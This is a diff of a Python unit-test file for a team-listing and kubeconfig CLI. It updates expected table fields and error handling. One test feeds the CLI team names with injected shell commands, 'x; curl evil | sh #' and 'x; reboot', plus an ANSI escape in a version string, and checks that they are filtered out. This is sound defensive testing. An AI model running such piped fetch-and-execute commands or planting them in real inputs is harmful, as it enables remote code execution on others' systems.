@@ -1,17 +1,16 @@
 """`fleet teams` and kubeconfigs: what is written, what runs, and what is not known."""
 
-import io
 import json
 import subprocess
 from types import SimpleNamespace
 
 import pytest
 import yaml
-from rich.console import Console
 
 from kai_fleet.cluster.tenant_kubeconfig import of_secret
+from kai_fleet_cli.engine.environment import Environment
 from kai_fleet_cli.errors import UserError
-from kai_fleet_cli.teams import listing, stack_state
+from kai_fleet_cli.teams import state
 from tests.unit import vcluster_secrets
 from tests.unit.team_project import GRANT
 
@@ -35,22 +34,21 @@ def as_json(project):
 
 def test_the_list_tells_wanted_from_running(lab):
     file = lab.root / "Pulumi.lab.yaml"
-    file.write_text(lab.text().replace("          gpu: {quota: 4}\n", "") + GRANT)
+    file.write_text(lab.text() + GRANT)
     rows, notes = as_json(lab)
     assert list(rows) == ["dev", "ml"]
     assert rows["ml"] == {
         "team": "ml",
         "mode": "virtual",
-        "version": {"wanted": "v0.14.7", "running": "v0.13.4"},
-        "supportEnd": "2027-03-31",
-        "queues": ["train", "serve"],
-        "gpus": {"most": 4, "guaranteed": 4.0},
+        "scheduler": "KAI v0.14.7",
+        "running": "v0.13.4",
+        "vCluster": "v0.36.1",
+        "GPUs": "4",
+        "guaranteed": "4",
+        "nodes": "pool=ml",
     }
-    assert rows["dev"]["gpus"] == {"most": 1, "guaranteed": 0.0}
+    assert (rows["dev"]["GPUs"], rows["dev"]["guaranteed"]) == ("1", "-")
     assert "teams with a stack of their own are listed there: vision" in notes
-    assert any(note.startswith("team old runs and is in no file any more") for note in notes)
-    file.write_text(lab.text() + "  kai-fleet:removed: [old]\n")
-    assert not any(note.startswith("team old") for note in as_json(lab)[1])
 
 
 def test_the_kubeconfig_goes_to_a_file_that_only_its_owner_reads(lab):
@@ -77,37 +75,25 @@ def test_a_kubeconfig_in_the_state_that_is_not_vclusters_is_not_given_out(lab):
     )
     assert (ran.code, ran.out) == (1, "")
     assert ran.refusal.startswith(says)
-    assert any(note.startswith(says) for note in as_json(lab)[1])
 
 
 def test_outputs_that_cannot_be_read_are_one_sentence(monkeypatch):
+    monkeypatch.setattr(state, "for_stack", lambda *_, **__: Environment())
+
     def failing(stderr):
         done = SimpleNamespace(returncode=255, stderr=stderr, stdout="")
         monkeypatch.setattr(subprocess, "run", lambda *_, **__: done)
         with pytest.raises(UserError) as why:
-            stack_state.read("lab", {})
+            state.read("lab")
         return str(why.value)
 
     assert failing("error: no stack named 'lab' found") == "stack lab was never updated"
     assert failing("warning: x\nerror: incorrect passphrase\n").endswith(": incorrect passphrase")
 
 
-@pytest.mark.parametrize("width", [60, 200])
-def test_the_table_cuts_no_value_off(width):
-    row = {
-        "team": "computer-vision-and-robotics",
-        "mode": "virtual",
-        "version": {"wanted": "v0.12.23", "running": None},
-        "supportEnd": "2026-12-31",
-        "queues": [f"batch-of-the-night-{number}" for number in range(9)],
-        "gpus": {"most": 128, "guaranteed": -1.0},
-    }
-    out = Console(file=io.StringIO(), width=width)
-    listing.show("prod", (row,), ["a note"], out)
-    printed = out.file.getvalue()
-    assert "…" not in printed and "- a note" in printed
-    for text in (row["team"], *row["queues"], "unlimited", "128"):
-        assert text in printed
+def test_the_table_has_every_team(lab):
+    printed = " ".join(lab.run("teams", "-s", "lab").out.split())
+    assert "ml virtual KAI v0.14.7 v0.13.4 v0.36.1 4 4 pool=ml" in printed
 
 
 def test_names_and_versions_that_no_program_makes_are_left_out(lab):
@@ -115,7 +101,7 @@ def test_names_and_versions_that_no_program_makes_are_left_out(lab):
     wrong = {"x; curl evil | sh #": {"scheduler": "v1"}, "ml": {"scheduler": "\x1b[2Jv0.16.8"}}
     lab.outputs = {"teams": wrong, "kubeconfigs": {"ml": KEPT, "x; reboot": KEPT}}
     rows, notes = as_json(lab)
-    assert rows["ml"]["version"]["running"] is None
+    assert rows["ml"]["running"] == "-"
     assert notes == []
     lab.outputs = {"teams": ["x"], "kubeconfigs": "x"}
     assert set(as_json(lab)[0]) == {"dev", "ml"}
